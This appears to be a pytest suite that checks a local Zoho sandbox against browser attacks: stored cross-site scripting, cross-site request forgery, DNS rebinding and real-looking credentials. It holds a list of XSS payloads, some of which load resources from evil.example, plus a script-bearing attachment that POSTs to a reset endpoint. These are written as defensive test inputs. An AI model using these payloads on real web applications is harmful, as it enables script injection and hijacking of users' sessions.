"""What a browser on this machine may be made to do with the sandbox: nothing."""

from __future__ import annotations

import json
import re
import socket
import subprocess
import sys
from html.parser import HTMLParser
from itertools import product
from typing import Any

import httpx
import pytest

from sandbox.conftest import PLAIN
from zoho_sandbox.pages.control import addresses

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</pre><svg onload=alert(1)>",
    "</td></tr></table><iframe src=javascript:alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "` onclick=alert(1) `",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=code>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7 * 7 }}{% for x in y %}${ 7 * 7 }",
    "\u202e<script>alert(1)</script>",
]  # fmt: skip
# What the pages themselves are made of.
TAGS = frozenset(
    re.findall(
        r"\w+",
        "html head meta link title body header nav main section footer div h1 h2 h3 p ul ol li dl dt dd a b strong"
        " em small code pre table thead tbody tr th td form label input select option button span br",
    )
)
ORGANIZATION = "10234695"


class Elements(HTMLParser):
    """Collects every element with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def acts(page: httpx.Response, url: str) -> list[Any]:
    """Return the elements of a page that could do or load something."""
    return [
        (tag, attributes)
        for tag, attributes in Elements(page.text).found
        if tag not in TAGS
        or any(name.startswith("on") or name in ("style", "formaction", "srcdoc") for name in attributes)
        or not all(
            is_own(attributes[name], url) for name in ("href", "src", "action") if attributes.get(name)
        )
    ]


def is_own(address: str | None, url: str) -> bool:
    """Return whether an address leads to the sandbox itself."""
    text = address or ""
    return (text.startswith("/") and not text.startswith("//")) or text.startswith((url, "?", "#", "data:,"))


@pytest.fixture
def browser(url):
    """A client that looks at pages."""
    with httpx.Client(base_url=url, trust_env=False, verify=PLAIN) as made:
        yield made


def write_everywhere(payload: str, books: httpx.Client, crm: httpx.Client, browser: httpx.Client) -> None:
    """Put a text into records, headers, file names, addresses, settings and error messages."""
    books.params = {"organization_id": ORGANIZATION}
    books.post(
        "/contacts", json={"contact_name": payload, "notes": payload, "billing_address": {"city": payload}}
    )
    header = payload.encode("utf-8").replace(b"\t", b" ")
    unique = [
        (b"X-Unique-Identifier-Key", b"cf_external_id"),
        (b"X-Unique-Identifier-Value", header),
        (b"X-Upsert", b"true"),
    ]
    books.put("/contacts", headers=unique, json={"contact_name": f"{payload}2"})  # type: ignore[arg-type]
    lead = crm.post(
        "/Leads", json={"data": [{"Last_Name": payload, "Description": payload, "City": payload}]}
    )
    found = lead.json()["data"][0].get("details", {}).get("id")
    if found:
        crm.post(
            f"/Leads/{found}/Attachments",
            files={"file": (payload.replace("\t", " "), payload.encode(), "text/html")},
        )
    books.get("/" + payload.replace("\t", " ").replace("?", ""), params={payload: payload})
    browser.get("/oauth/v2/auth", params={"client_id": payload, "redirect_uri": payload, "state": payload})


@pytest.mark.plan("S-115")
def test_what_is_stored_never_acts_on_a_page(sandbox, url, browser, books, crm, score):
    """Whatever anybody stores, pages show it as text: no element, attribute or address of it takes effect."""
    for payload in PAYLOADS:
        write_everywhere(payload, books, crm, browser)
        sandbox.state.put("k" + payload, payload, {payload: payload, "b": [payload]})
    kinds = [kind for kind, _ in sandbox.state.kinds().items()]
    records = [(kind, one) for kind in kinds for one in sandbox.state.ids(kind)[-len(PAYLOADS) :]]

    seen = [browser.get(path) for path in ("/", "/_sandbox/view/settings", "/_sandbox/view/records")]
    seen += [browser.get("/_sandbox/view/requests", params={"page": page}) for page in range(1, 8)]
    seen += [browser.get("/_sandbox/view/records", params={"kind": kind}) for kind in kinds]
    seen += [browser.get("/_sandbox/view/record", params={"kind": kind, "id": one}) for kind, one in records]
    for payload in PAYLOADS:
        seen.append(browser.post("/_sandbox/view/settings", data={"name": payload, "value": payload}))
        seen.append(browser.get("/oauth/v2/auth", params=asked(payload)))

    assert [found for page in seen for found in acts(page, url)] == []
    assert all("unsafe-inline" not in page.headers["content-security-policy"] for page in seen)
    assert sum("alert" in page.text for page in seen) > len(PAYLOADS)
    score("hostile", len(PAYLOADS) * 10)


def asked(payload: str) -> dict[str, str]:
    """Ask for consent with a hostile text wherever the page shows one."""
    return {
        "client_id": "1000.SANDBOXCLIENT",
        "redirect_uri": "http://127.0.0.1:8123/callback",
        "response_type": "code",
        "scope": payload,
        "state": payload,
    }


@pytest.mark.plan("S-115")
def test_a_stored_file_is_no_page_of_the_sandbox(sandbox, crm):
    """A web page that somebody attached is opened without scripts and without the sandbox's origin."""
    lead = crm.post("/Leads", json={"data": [{"Last_Name": "x"}]}).json()["data"][0]["details"]["id"]
    page = b"<script>fetch('/_sandbox/reset', {method: 'POST'})</script>"
    added = crm.post(f"/Leads/{lead}/Attachments", files={"file": ("page.html", page, "text/html")})
    attachment = added.json()["data"][0]["details"]["id"]

    opened = crm.get(f"/Leads/{lead}/Attachments/{attachment}")

    assert opened.content == page
    assert "sandbox" in opened.headers["content-security-policy"].split("; ")
    assert opened.headers["x-content-type-options"] == "nosniff"


FORMS = [
    "/_sandbox/view/reset",
    "/_sandbox/view/clock",
    "/_sandbox/view/settings",
    "/_sandbox/view/self-client",
]
CHANGING = sorted(
    {(path, method) for path, method in addresses() if method != "GET"} | {(path, "POST") for path in FORMS}
)
FOREIGN: dict[str, dict[str, str]] = {
    "another site": {"Origin": "https://evil.example"},
    "a sandboxed frame": {"Origin": "null"},
    "another port": {"Origin": "http://127.0.0.1:1"},
    "a name that begins alike": {"Origin": "http://127.0.0.1.evil.example"},
    "only the browser's own word": {"Sec-Fetch-Site": "cross-site"},
    "a sibling site": {"Sec-Fetch-Site": "same-site"},
}


def state_of(sandbox: Any) -> str:
    """Return everything a request could have changed, the ledger left out."""
    kinds = sandbox.state.kinds()
    return json.dumps(
        [kinds, sandbox.settings.changed(), sandbox.planted_faults.planted(), sandbox.clock.is_frozen],
        default=str,
    )


@pytest.mark.plan("S-116")
@pytest.mark.parametrize("foreign", FOREIGN)
@pytest.mark.parametrize(("path", "method"), CHANGING)
def test_a_page_of_another_site_changes_nothing(sandbox, browser, path, method, foreign):
    """Every address that changes something refuses a request that another site's page has sent."""
    sandbox.clock.freeze()
    before = state_of(sandbox), sandbox.clock.now()

    reply = browser.request(method, path, headers=FOREIGN[foreign], content=b"{}")

    assert reply.status_code == 403
    assert (state_of(sandbox), sandbox.clock.now()) == before


@pytest.mark.plan("S-116")
@pytest.mark.parametrize("foreign", FOREIGN)
def test_a_page_of_another_site_gives_no_consent(sandbox, accounts, foreign):
    """A hidden form cannot press the button."""
    fields = {**accounts.asked, "decision": "accept"}

    reply = accounts.post("/oauth/v2/auth", data=fields, headers=FOREIGN[foreign])

    assert reply.status_code == 403
    assert "code=" not in reply.headers.get("location", "")


@pytest.mark.plan("S-116")
@pytest.mark.parametrize(
    "path", sorted({path for path, _ in CHANGING} | {"/oauth/v2/token", "/oauth/v2/token/revoke"})
)
def test_looking_changes_nothing(sandbox, browser, path):
    """No GET or HEAD has an effect: an image or a link on another site is harmless."""
    before = state_of(sandbox)

    for method in ("GET", "HEAD"):
        browser.request(method, path, params={"decision": "accept", "expire": "all", "by": "day"})

    assert state_of(sandbox) == before


@pytest.mark.plan("S-116")
@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "evil.example:8080",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "192.168.0.7",
        "[fe80::1]",
        "",
        "127.0.0.1@evil.example",
        "0.0.0.0",
    ],
)
@pytest.mark.parametrize("path", ["/", "/_sandbox/ledger", "/_sandbox/connections", "/books/v3/contacts"])
def test_a_name_that_was_made_to_lead_here_gets_nothing(browser, host, path):
    """DNS rebinding: a page under a foreign name cannot read what lies here."""
    reply = browser.request("POST" if path.endswith("connections") else "GET", path, headers={"Host": host})

    assert reply.status_code in (400, 421)
    assert "token" not in reply.text


@pytest.mark.plan("S-117")
def test_a_busy_port_is_said_in_words():
    """Whoever starts a second sandbox on the same port learns why it does not start."""
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = str(taken.getsockname()[1])
        ended = subprocess.run(
            [sys.executable, "-m", "zoho_sandbox", "--port", port],
            check=False,
            capture_output=True,
            text=True,
            timeout=30,
        )

    assert ended.returncode == 2
    assert "in use" in ended.stderr
    assert "Traceback" not in ended.stderr


def routes(url: str) -> list[tuple[str, str]]:
    """Return every kind of address there is: control, pages, accounts, products, and what is no address."""
    pages = [
        "/",
        "/_sandbox",
        "/_sandbox/style.css",
        *(f"/_sandbox/view/{name}" for name in ("records", "record", "requests", "settings")),
    ]
    accounts = ["/oauth/v2/auth", "/oauth/v2/token", "/oauth/serverinfo", "/oauth/nowhere"]
    products = [
        "/crm/v8/Leads",
        "/crm/v8/Nothing",
        "/crm/v1/x",
        "/books/v3/contacts",
        "/books/v3/nothing",
        "/books/v9/x",
    ]
    others = ["/favicon.ico", "/_sandbox/nowhere", "/_sandbox/view/nowhere", "/%00", "/" + "a" * 5_000]
    found = [("GET", path) for path in (*pages, *accounts, *products, *others)]
    return (
        found + [(method, path) for path, method in sorted(addresses())] + [("POST", path) for path in FORMS]
    )


@pytest.mark.plan("S-123")
def test_every_reply_is_unframed_unsniffed_and_unkept(url, browser, crm, books):
    """Pages, JSON, style sheet, refusals and errors all carry the headers that tie a browser's hands."""
    clients = (browser, httpx.Client(base_url=url, headers=crm.headers, trust_env=False))
    replies = [client.request(method, path) for client, (method, path) in product(clients, routes(url))]
    replies += [browser.get("/", headers={"Host": "evil.example"})]
    clients[1].close()

    assert {reply.status_code for reply in replies} >= {200, 303, 400, 401, 404, 421}
    for reply in replies:
        what = f"{reply.request.method} {reply.request.url.path[:60]}: {reply.status_code}"
        assert reply.headers["x-sandbox"] == "zoho-sandbox", what
        assert reply.headers["x-content-type-options"] == "nosniff", what
        assert "frame-ancestors 'none'" in reply.headers["content-security-policy"], what
        assert "no-store" in reply.headers["cache-control"], what


@pytest.mark.plan("S-121")
def test_every_page_says_that_it_is_not_zoho(browser):
    """Nobody types a real password into it by mistake."""
    for path in ("/", "/_sandbox/view/records", "/_sandbox/view/settings"):
        assert "not zoho" in browser.get(path).text.lower()
    assert "not zoho" in browser.get("/oauth/v2/auth", params=asked("s")).text.lower()


@pytest.mark.plan("S-121")
@pytest.mark.parametrize("place", ["header", "client id", "client secret", "code", "refresh token"])
def test_a_real_looking_credential_is_refused_wherever_it_stands(sandbox, accounts, place):
    """It is not stored, not echoed and not written down, and the reply says why."""
    real = f"1000.{'b2' * 16}.{'c3' * 16}"
    known = sandbox.connection()["token"]["refresh_token"]
    tries = {
        "header": lambda: accounts.call(real),
        "client id": lambda: accounts.exchange("1000.sandbox-code-x", client_id=real),
        "client secret": lambda: accounts.exchange("1000.sandbox-code-x", client_secret=real),
        "code": lambda: accounts.exchange(real),
        "refresh token": lambda: accounts.refresh(real),
    }

    reply = tries[place]()

    assert "access_token" not in reply.json()
    assert real not in reply.text
    assert real not in json.dumps(sandbox.ledger())
    assert known
